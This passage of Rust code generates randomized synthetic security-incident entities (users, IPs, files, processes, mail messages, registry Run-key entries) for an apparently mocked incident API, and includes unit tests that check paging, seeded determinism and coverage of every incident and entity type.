    entity.verdict = *pick(
        rng,
        &["Malicious", "Suspicious", "Suspicious", "NoThreatsFound"],
    );
    entity.remediation_status = *pick(rng, &["None", "None", "Remediated", "Prevented"]);
    let device_id = on_device.then(|| host.device_id.clone());
    let file = pick(rng, &directory.files);
    let folder = file.folder.replace("{user}", &user.account_name);
    match entity_type {
        User => {
            entity.account_name = Some(user.account_name.clone());
            entity.domain_name = Some(NETBIOS_DOMAIN.into());
            entity.user_sid = Some(user.sid.clone());
            entity.aad_user_id = Some(user.object_id.clone());
            entity.user_principal_name = Some(user.upn.clone());
        }
        Ip => entity.ip_address = Some(pick(rng, &directory.external_ips).clone()),
        Url => entity.url = Some(pick(rng, &directory.urls).clone()),
        File => {
            entity.sha1 = Some(file.sha1.clone());
            entity.sha256 = Some(file.sha256.clone());
            entity.file_name = Some(file.name.into());
            entity.file_path = Some(folder);
            entity.device_id = device_id;
        }
        Process => {
            let parent_start = time - SignedDuration::from_secs(rng.random_range(30..7_200));
            entity.process_id = Some(rng.random_range(1_000..30_000));
            entity.process_command_line =
                Some(file.command_line.replace("{user}", &user.account_name));
            entity.process_creation_time =
                Some(time - SignedDuration::from_secs(rng.random_range(1..30)));
            entity.parent_process_id = Some(rng.random_range(500..1_000));
            entity.parent_process_creation_time = Some(parent_start);
            entity.file_name = Some(file.name.into());
            entity.file_path = Some(folder);
            entity.sha1 = Some(file.sha1.clone());
            entity.device_id = device_id;
        }
        MailBox => {
            entity.user_principal_name = Some(user.upn.clone());
            entity.mailbox_display_name = Some(user.display_name.clone());
            entity.mailbox_address = Some(user.upn.clone());
        }
        MailMessage => {
            let domain = pick(rng, MALICIOUS_DOMAINS);
            entity.user_principal_name = Some(user.upn.clone());
            entity.sender = Some(format!("billing@{domain}"));
            entity.recipient = Some(user.upn.clone());
            entity.subject = Some(
                pick(
                    rng,
                    &[
                        "[EXTERNAL] Attention",
                        "Invoice overdue",
                        "Your mailbox is full",
                        "Shared document: Q3 plan",
                    ],
                )
                .to_string(),
            );
            entity.delivery_action =
                Some(pick(rng, &["Delivered", "Junked", "Blocked"]).to_string());
        }
        MailCluster => entity.cluster_by = Some("Subject;P2SenderDomain;ContentType".into()),
        Registry => {
            entity.registry_hive = Some("HKEY_LOCAL_MACHINE".into());
            entity.registry_key = Some("SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run".into());
            entity.registry_value_type = Some("String".into());
            entity.registry_value = Some(format!("{}\\{}", folder, file.name));
            entity.device_id = device_id;
        }
        SecurityGroup => {
            entity.security_group_id = Some(guid(rng));
            entity.security_group_name = Some(pick(rng, SECURITY_GROUPS).to_string());
        }
    }
    entity
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_page_from_any_skip_is_a_page_not_an_overflow() {
        let page = Page::of(vec![1, 2, 3], usize::MAX, 2);
        assert!(page.items.is_empty());
        assert_eq!(page.next_skip, None);
        let page = Page::of(vec![1, 2, 3], 1, 1);
        assert_eq!((page.items, page.next_skip), (vec![2], Some(2)));
    }

    fn start() -> Timestamp {
        "2025-02-01T00:00:00Z".parse().unwrap()
    }

    #[test]
    fn the_same_seed_gives_the_same_bytes() {
        let first = Tenant::seeded(7, 60, start());
        let second = Tenant::seeded(7, 60, start());
        let json = |tenant: &Tenant| {
            serde_json::to_string(&tenant.visible(start()).collect::<Vec<_>>()).unwrap()
        };
        assert_eq!(json(&first), json(&second));
        assert_ne!(json(&first), json(&Tenant::seeded(8, 60, start())));
    }

    #[test]
    fn the_seeded_tenant_covers_every_shape() {
        let tenant = Tenant::seeded(1, 250, start());
        let incidents: Vec<&Incident> = tenant.visible(start()).collect();
        assert_eq!(incidents.len(), 250);
        for status in IncidentStatus::ALL {
            assert!(
                incidents.iter().any(|incident| incident.status == *status),
                "{status:?}"
            );
        }
        for severity in Severity::ALL {
            assert!(
                incidents
                    .iter()
                    .any(|incident| incident.severity == *severity),
                "{severity:?}"
            );
        }
        for classification in Classification::ALL {
            assert!(
                incidents
                    .iter()
                    .any(|incident| incident.classification == *classification)
            );
        }
        let entity_types: Vec<EntityType> = incidents
            .iter()
            .flat_map(|incident| &incident.alerts)
            .flat_map(|alert| &alert.entities)
            .map(|entity| entity.entity_type)
            .collect();
        for entity_type in EntityType::ALL {
            assert!(entity_types.contains(entity_type), "{entity_type:?}");
        }
        for kind in ALERT_KINDS {
            assert!(
                incidents
                    .iter()
                    .flat_map(|incident| &incident.alerts)
                    .any(|alert| alert.service_source == kind.service_source)
            );
        }
        let redirected = incidents
            .iter()
            .find(|incident| incident.status == IncidentStatus::Redirected)
            .unwrap();
        assert!(redirected.redirect_incident_id.is_some());
        assert!(
            incidents
                .iter()
                .any(|incident| incident.assigned_to.is_none())
        );
        assert!(
            incidents
                .iter()
                .any(|incident| !incident.comments.is_empty())
        );
        assert!(incidents.iter().any(|incident| !incident.tags.is_empty()));
        let window_start = start() - DATA_WINDOW;
        assert!(incidents.iter().all(
            |incident| incident.created_time >= window_start && incident.created_time < start()
        ));
    }
}
